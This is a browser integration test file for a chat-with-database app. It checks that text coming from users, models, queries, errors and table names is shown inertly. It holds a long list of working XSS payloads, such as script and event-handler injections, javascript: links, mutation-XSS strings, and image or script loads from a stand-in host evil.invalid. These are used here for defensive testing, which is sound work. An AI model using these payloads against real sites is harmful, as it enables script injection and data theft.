package tablechat.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tablechat.testing.InTurn;
import tablechat.testing.Line;
import tablechat.testing.SqliteFile;
import tablechat.testing.TestClient;

/// Whatever comes from a person, a model or a database is text. A request to elsewhere, or a word of the browser in the console,
/// fails these tests as it does all others.
@InTurn
final class HostileIT {
    private static final String IMAGE = "<img src=x onerror=window.pwned=1>";
    private static final String SCRIPT = "<script>window.pwned=1</script>";
    private static final String MARKDOWN = """
            ![pixel](http://evil.invalid/leak?q=1) ![ref][r] [click](javascript:window.pwned=1)
            <http://evil.invalid/auto> [a](http://evil.invalid/"onmouseover="window.pwned=1)

            [r]: http://evil.invalid/reference

            - <svg onload=window.pwned=1>
            - <a href="javascript:window.pwned=1">raw</a>

            | <img src=x onerror=window.pwned=1> | <script>window.pwned=1</script> |
            |---|---|
            | <iframe src=javascript:window.pwned=1> | ![cell](http://evil.invalid/cell) |

            ```html
            <script>window.pwned=1</script>
            ```
            """;

    /// One of each class: what runs, what fetches, what a sanitiser or a parser may let through, what takes the names of things.
    private static final List<String> PAYLOADS = List.of(
            SCRIPT, IMAGE, "<ScRiPt src=//evil.invalid/x.js></sCrIpT>", "<svg/onload=window.pwned=1>",
            "<svg><script href=http://evil.invalid/x.js></script><animate onbegin=window.pwned=1 attributeName=x></svg>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", "<object data=http://evil.invalid/o></object>",
            "<embed src=http://evil.invalid/e>", "<video><source onerror=window.pwned=1></video>", "<details open ontoggle=window.pwned=1>",
            "<body onpageshow=window.pwned=1>", "<link rel=stylesheet href=http://evil.invalid/l.css>",
            "<style>@import 'http://evil.invalid/s.css'</style>", "<base href=http://evil.invalid/>",
            "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>", "<form action=http://evil.invalid/><button>x</button></form>",
            "[a](javascript:window.pwned=1)", "[b](JaVaScRiPt:window.pwned=1)", "[c](java\tscript:window.pwned=1)",
            "[d](&#106;avascript:window.pwned=1)", "[e](data:text/html,<script>window.pwned=1</script>)", "[f](vbscript:x)",
            "<a href=\" javascript:window.pwned=1\">g</a>", "<javascript:window.pwned=1>", "[h]: javascript:window.pwned=1",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\">",
            "<img name=getElementById><form id=body><input name=attributes>", "<a id=CSS><a id=CSS name=highlights>",
            "![i](http://evil.invalid/i.png)", "![j](//evil.invalid/j \"title\")", "![k][k]\n\n[k]: http://evil.invalid/k.png",
            "[![l](http://evil.invalid/l.png)](http://evil.invalid/)", "<http://evil.invalid/auto>", "http://evil.invalid/bare",
            "{{constructor.constructor('window.pwned=1')()}}", "\u202e</script><script>window.pwned=1</script>");

    @RegisterExtension
    final Stage stage = Stage.wide();

    @Test
    void whatPeopleAndModelsWriteIsText() {
        stage.model().replies(Line.thinking(IMAGE), Line.text(IMAGE + "\n\n" + SCRIPT + "\n\n" + MARKDOWN))
                .titles(Line.text(IMAGE));
        Tab tab = stage.tab();

        tab.ask(IMAGE + SCRIPT + MARKDOWN);

        assertThat(tab.button("Send")).isVisible();
        assertThat(tab.conversation()).containsText(IMAGE + SCRIPT + "![pixel](http://evil.invalid/leak?q=1)");
        for (String literal : new String[] {IMAGE, SCRIPT, "http://evil.invalid/leak?q=1", "<svg onload=window.pwned=1>"}) {
            assertThat(tab.answer()).containsText(literal);
        }
        assertThat(tab.title()).hasText(IMAGE);
        assertThat(tab.session(IMAGE)).isVisible();
        assertHarmless(tab);
        tab.page().reload();
        assertThat(tab.answer()).containsText(SCRIPT);
        assertHarmless(tab);
    }

    @Test
    void whatQueriesReturnIsText() {
        String sql = "select '%s' as \"%s\", '%s' as \"%s\"".formatted(IMAGE, SCRIPT, SCRIPT, IMAGE);
        stage.model().calls("run_query", Map.of("sql", sql)).calls("describe_tables", Map.of("names", List.of(IMAGE)))
                .calls(SCRIPT, Map.of(IMAGE, IMAGE))
                .calls("run_query", Map.of("sql", "select \"%s\" from nowhere".formatted(IMAGE)))
                .answers("Done.");
        Tab tab = stage.tab();

        tab.ask("Look");
        assertThat(tab.answer()).containsText("Done.");
        // The line that the four calls are folded into comes first.
        Locator calls = tab.answer().locator("summary");
        assertThat(calls).hasCount(5);
        for (int i = 0; i < 5; i++) calls.nth(i).click();

        assertThat(tab.answer().getByText(SCRIPT, new Locator.GetByTextOptions().setExact(true))).hasCount(2);
        assertThat(tab.answer().getByText(IMAGE, new Locator.GetByTextOptions().setExact(true))).hasCount(2);
        assertHarmless(tab);
    }

    @Test
    void whatFailsAndWhatIsReportedIsText() throws InterruptedException {
        stage.model().fails(IMAGE + SCRIPT);
        Tab tab = stage.tab();
        tab.ask("Fail");
        assertThat(tab.answer()).containsText(IMAGE + SCRIPT);

        try (TestClient client = stage.server().client()) {
            client.await("welcome");
            String session = client.send(Map.of("type", "session.list")).objects("sessions").getFirst().text("id");
            client.send(Map.of("type", "session.rename", "session", session, "title", SCRIPT));
        }

        assertThat(tab.title()).hasText(SCRIPT);
        assertHarmless(tab);
    }

    @Test
    void whatDatabasesAndTablesAreCalledIsText() throws Exception {
        Path file = stage.folder().path().resolve("hostile.db");
        new SqliteFile(file).run("create table \"%s\" (id integer)".formatted(IMAGE));
        stage.server().chat().connections().configure(SCRIPT, "sqlite:" + file);
        Tab tab = stage.tab();

        tab.page().getByRole(AriaRole.COMBOBOX).selectOption(SCRIPT);

        assertThat(tab.button("How many " + IMAGE + " are there?")).isVisible();
        assertHarmless(tab);
    }

    @Test
    void noPayloadRunsOrFetchesWhereverItStands() throws Exception {
        String all = String.join("\n\n", PAYLOADS);
        String cells = "select '' as " + quoted(all, '"')
                + PAYLOADS.stream().map(payload -> " union all select " + quoted(payload, '\'')).collect(Collectors.joining());
        String titles = all.replaceAll("\\s+", " ").substring(0, 190);
        stage.model().calls("run_query", Map.of("sql", cells)).replies(letters(all)).titles(Line.text(titles))
                .fails(all);
        Tab tab = stage.tab();
        tab.ask(all);
        assertThat(tab.button("Retry")).isVisible();
        tab.answer().getByText("Ran a query").click();
        assertThat(tab.answer().getByRole(AriaRole.ROW)).hasCount(PAYLOADS.size() + 2);
        tab.ask("Fail");
        assertThat(tab.answer()).containsText("<svg/onload=window.pwned=1>");
        for (String payload : PAYLOADS) {
            try (TestClient client = stage.server().client()) {
                client.await("welcome");
                client.send(Map.of("type", "session.create", "title", payload));
            }
        }
        stage.server().chat().connections().configure(IMAGE, "sqlite:" + stage.folder().path().resolve("sample.db"));
        tab.page().reload();
        assertThat(tab.page().getByRole(AriaRole.OPTION, new Page.GetByRoleOptions().setName(IMAGE))).hasCount(1);

        tab.page().getByRole(AriaRole.SEARCHBOX).first().fill("window.pwned");
        assertThat(tab.page().locator("mark").first()).isVisible();
        assertHarmless(tab);
        tab.press("Control+K");
        tab.page().keyboard().type("onerror");
        assertThat(tab.page().locator("#palette-list li").first()).isVisible();
        assertHarmless(tab);
    }

    /// Split over tokens, so that no piece is what the whole is.
    private static Line[] letters(String text) {
        return IntStream.iterate(0, at -> at < text.length(), at -> at + 3)
                .mapToObj(at -> Line.text(text.substring(at, Math.min(text.length(), at + 3)))).toArray(Line[]::new);
    }

    private static String quoted(String text, char mark) {
        return mark + text.replace("" + mark, "" + mark + mark) + mark;
    }

    private static void assertHarmless(Tab tab) {
        assertThat(tab.page().locator("body :is(img, script, iframe, object, embed, video, style, base, meta, form, math)")).hasCount(0);
        assertThat(tab.page().locator("body > * link, body > link:not([rel=stylesheet][href^='v/'])")).hasCount(0);
        assertThat(tab.page().locator("body svg:not(.icon), body :is([onload], [onerror], [ontoggle], [style*=url])")).hasCount(0);
        assertThat(tab.page().locator("body a:not([href^='#/s/'], [href^='results/'], [href^='sessions/'])")).hasCount(0);
        // An image that cannot be loaded tells its onerror only some time later.
        tab.page().evaluate("() => new Promise(then => setTimeout(then, 100))");
        assertEquals("undefined", tab.page().evaluate("() => typeof window.pwned"));
    }
}
